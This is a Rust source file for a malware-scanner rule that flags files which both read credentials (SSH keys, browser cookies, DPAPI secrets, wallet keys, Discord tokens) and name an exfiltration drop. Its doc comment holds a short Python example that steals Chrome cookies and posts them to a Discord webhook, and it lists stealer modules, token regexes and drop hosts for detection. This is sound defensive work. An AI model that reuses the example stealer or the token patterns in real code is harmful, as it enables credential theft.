//! # SW-GEN-028: credential theft chain
//!
//! **What it does.** Finds one file that both reaches for credential
//! material — the paths of SW-GEN-004 (SSH keys, cloud and registry
//! tokens, browser password and cookie stores, wallets, Discord token
//! stores), browser-cookie stealing libraries (`browser_cookie3`),
//! Windows DPAPI decryption (`CryptUnprotectData`), Discord token
//! patterns — and names a drop for it: a request catcher, webhook,
//! Telegram bot, paste or file-drop site, tunnel, out-of-band host, or a
//! URL on a raw public IP address (the endpoints of SW-GEN-007), or a
//! free app host or mock API (`herokuapp.com`, `onrender.com`,
//! `mockapi.io`) that no legitimate credential reader posts to. Cloud
//! SDK calls that return resolved credentials (`get_credentials()`) and
//! wallet calls that load a private key or seed phrase (`from_key`,
//! `from_mnemonic`) count as reaching for secrets.
//!
//! **Why is this bad.** Reading a secret and sending it to a place that
//! needs no account is the whole job of an info-stealer. Unlike a single
//! capability, the pair is malicious whenever it runs, so this rule
//! weighs the same when the code sits in a function the user calls (a
//! typosquat's `main()`, a "token checker") as at install or import.
//!
//! **Example.**
//!
//! ```python
//! import browser_cookie3, requests
//! def grab():
//!     cookies = browser_cookie3.chrome(domain_name="game.example.test")
//!     requests.post("https://discord.com/api/webhooks/1/x", json={"c": str(cookies)})
//! ```
//!
//! **False positives.** A tool that manages its own credentials and also
//! posts notifications to a chat webhook in the same file; such code
//! names its own config file, rarely a browser's or another tool's
//! secrets. Different files of one package do not combine.

use std::collections::BTreeMap;

use super::{Context, Emit, Rule, gen004_credential_read as creds, gen007_exfil_endpoint as drops, Indicators};
use crate::lang::Lang;
use crate::model::{Severity, Stage};

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-028",
    title: "credential theft chain",
    source: include_str!("gen028_theft_chain.rs"),
    check,
};

/// Credential kinds of SW-GEN-004 that a string can hit by accident.
const WEAK_KINDS: &[&str] = &["Telegram sessions", "SSH configuration"];

/// Modules that exist to read other programs' secrets.
const STEALER_MODULES: &[(&str, &str)] = &[
    ("browser_cookie3", "browser cookies"),
    ("browsercookie", "browser cookies"),
    ("pycookiecheat", "browser cookies"),
    ("rookiepy", "browser cookies"),
    ("win32crypt.CryptUnprotectData", "DPAPI-protected secrets"),
    ("CryptUnprotectData", "DPAPI-protected secrets"),
];

/// Free app hosts and mock APIs: not drops on their own (projects host
/// demos there), but where a file that reaches for secrets sends them.
const FREE_HOSTS: &[&str] = &[
    "herokuapp.com",
    "onrender.com",
    "mockapi.io",
    "ngrok-free.dev",
    "ngrok.dev",
    "glitch.me",
    "repl.co",
    "replit.dev",
    "pythonanywhere.com",
    "workers.dev",
    "vercel.app",
    "netlify.app",
    "000webhostapp.com",
    "firebaseio.com",
];

static FREE_HOST_MATCHER: Indicators = Indicators::new(|| FREE_HOSTS.to_vec());

/// Calls that hand over a cloud SDK's resolved credentials, or turn a
/// wallet's private key or seed phrase into an account.
const CREDENTIAL_CALLS: &[&str] = &[
    "get_credentials",
    "get_frozen_credentials",
    "from_key",
    "from_mnemonic",
    "from_base58_string",
    "from_secret_key",
    "privateKeyToAccount",
    "fromSecretKey",
    "fromMnemonic",
    "fromPhrase",
];

/// Literal fragments of stealers' Discord token patterns and session
/// cookie names.
static TOKEN_PATTERNS: Indicators = Indicators::new(|| {
    vec![
        r"[\w-]{6}\.[\w-]{27}",
        r"[\w-]{6}\.[\w-]{38}",
        r"mfa\.[\w-]{84}",
        "dQw4w9WgXcQ:",
        ".ROBLOSECURITY",
    ]
});
/// Per file: what it reaches for and where it sends, with stages.
#[derive(Default)]
struct Chain {
    secrets: Option<(String, Stage, u32)>,
    drop: Option<(String, Stage, u32)>,
}

fn keep_earliest(slot: &mut Option<(String, Stage, u32)>, what: String, stage: Stage, line: u32) {
    if slot.as_ref().is_none_or(|(_, s, _)| stage < *s) {
        *slot = Some((what, stage, line));
    }
}

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    let mut chains: BTreeMap<&str, Chain> = BTreeMap::new();
    for hit in cx.indicator_hits(&creds::MATCHER) {
        let kind = creds::INDICATORS[hit.pattern].1;
        if !WEAK_KINDS.contains(&kind) {
            let chain = chains.entry(&hit.file.path).or_default();
            keep_earliest(&mut chain.secrets, kind.to_owned(), hit.stage, hit.line);
        }
    }
    for hit in cx.indicator_hits(&TOKEN_PATTERNS) {
        let chain = chains.entry(&hit.file.path).or_default();
        keep_earliest(&mut chain.secrets, "Discord or session tokens".to_owned(), hit.stage, hit.line);
    }
    for file in cx.code_files().filter(|f| f.lang == Lang::Python) {
        let Some(facts) = &file.facts else { continue };
        let uses = facts
            .calls
            .iter()
            .map(|c| (c.callee.as_str(), c.stage, c.line))
            .chain(facts.imports.iter().map(|i| (i.name.as_str(), i.stage, i.line)));
        for (name, stage, line) in uses {
            let head = name.split('.').next().unwrap_or(name);
            if let Some((_, kind)) = STEALER_MODULES
                .iter()
                .find(|(module, _)| *module == head || *module == name || name.ends_with(&format!(".{module}")))
            {
                let chain = chains.entry(&file.path).or_default();
                keep_earliest(&mut chain.secrets, (*kind).to_owned(), stage, line);
            }
        }
    }
    for file in cx.code_files() {
        let Some(facts) = &file.facts else { continue };
        for call in &facts.calls {
            let last = call.callee.rsplit('.').next().unwrap_or("");
            if CREDENTIAL_CALLS.contains(&last) {
                let chain = chains.entry(&file.path).or_default();
                keep_earliest(&mut chain.secrets, format!("credentials or wallet keys (`{}`)", call.callee), call.stage, call.line);
            }
        }
    }
    for hit in cx.indicator_hits(&FREE_HOST_MATCHER) {
        if let Some(chain) = chains.get_mut(hit.file.path.as_str()) {
            let host = FREE_HOSTS[hit.pattern];
            keep_earliest(&mut chain.drop, format!("a free app host (`{host}`)"), hit.stage, hit.line);
        }
    }
    for hit in cx.indicator_hits(&drops::MATCHER) {
        let (pattern, what) = drops::ENDPOINTS[hit.pattern];
        if what != "an IP-lookup service"
            && let Some(chain) = chains.get_mut(hit.file.path.as_str())
        {
            keep_earliest(&mut chain.drop, format!("{what} (`{pattern}`)"), hit.stage, hit.line);
        }
    }
    for (file, _) in cx.code_texts() {
        let (Some(chain), Some(facts)) = (chains.get_mut(file.path.as_str()), &file.facts) else {
            continue;
        };
        for lit in facts.strings.iter().filter(|l| l.value.len() <= 100_000) {
            let public = drops::IP_URL.captures_iter(&lit.value).find(|caps| {
                let octets: Vec<u8> = (1..=4).filter_map(|i| caps[i].parse().ok()).collect();
                octets.len() == 4 && drops::is_public(&octets)
            });
            if let Some(caps) = public {
                keep_earliest(&mut chain.drop, format!("a raw IP address (`{}`)", &caps[0]), lit.stage, lit.line);
            }
        }
    }
    for (file, chain) in chains {
        let (Some((secrets, s_stage, s_line)), Some((drop, d_stage, _))) = (chain.secrets, chain.drop) else {
            continue;
        };
        let stage = s_stage.min(d_stage);
        out.finding_at_any_stage(
            Severity::Critical,
            stage,
            file,
            Some(s_line),
            format!("reaches for {secrets} and names a drop for it: {drop}"),
        );
    }
}
